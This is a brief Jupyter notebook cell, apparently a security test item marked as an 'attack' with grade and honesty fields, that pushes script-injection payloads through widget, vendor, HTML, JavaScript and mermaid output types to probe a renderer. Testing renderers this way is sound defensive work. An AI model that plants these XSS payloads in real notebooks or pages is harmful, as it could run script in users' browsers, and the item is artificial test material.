# attack: outputs of widget and vendor types name modules to be loaded
# wants: feedback
# grade: 0
# honest: 0
# %%
from IPython.display import display
display({"application/vnd.jupyter.widget-view+json": {
    "model_id": "</script><script>alert(1)</script>", "version_major": 2, "version_minor": 0}}, raw=True)
display({"application/vnd.zoo+html": "<script>alert(1)</script>", "text/html": "<script>x</script>"}, raw=True)
display({"application/javascript": "alert(1)", "text/vnd.mermaid": "graph <script>alert(1)</script>"}, raw=True)
